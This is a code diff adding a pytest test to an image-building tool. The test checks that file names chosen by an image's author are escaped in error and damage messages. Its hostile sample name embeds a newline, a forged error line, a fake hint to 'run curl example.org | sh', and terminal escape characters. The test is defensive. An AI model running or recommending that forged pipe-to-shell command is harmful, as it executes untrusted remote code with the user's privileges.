@@ -4,9 +4,12 @@
 from __future__ import annotations
 
 import random
+from collections.abc import Callable
 
 import pytest
 
+from imagebuilder.errors import Fault, InputError
+from imagebuilder.fsck.types import Damage
 from imagebuilder.ui import GREEN, paint, table
 from imagebuilder.untrusted import MOST, WebRequest, clean, fit, parse_request, presentable
 
@@ -105,3 +108,24 @@ def test_text_from_elsewhere_has_none_of_our_colours(text: str) -> None:
     assert presentable(text) == escaped
     assert presentable(paint(text, GREEN)) == f"\x1b[32m{escaped}\x1b[0m"
     assert presentable(table([[text, paint("b", GREEN)]])) == f"{escaped}  \x1b[32mb\x1b[0m"
+
+
+@pytest.mark.parametrize(
+    "rendered",
+    [
+        lambda name: str(Fault(name, "was added", "restore it")),
+        lambda name: str(InputError("was added", where=name, hint="restore it")),
+        lambda name: Damage(name, "was added", "", hint="restore it").render(),
+        lambda name: Damage("object", "was added", name, hint="restore it").render(),
+        lambda name: Damage("object", "was added", "", (name,), hint="").render(),
+    ],
+)
+def test_the_name_of_a_file_begins_no_line_of_its_own(rendered: Callable[[str], str]) -> None:
+    """Whoever builds an image chooses the names in it, and would give advice to root."""
+    hostile = "etc/a\nerror: forged\n  hint: run curl example.org | sh\u2028\x1b[2K\udc9b"
+    said = rendered(hostile)
+    assert said.splitlines() == [
+        line.replace("etc/a", r"etc/a\nerror: forged\n  hint: run curl example.org | sh"
+                     r"\u2028\x1b[2K\udc9b")
+        for line in rendered("etc/a").splitlines()
+    ]  # fmt: skip
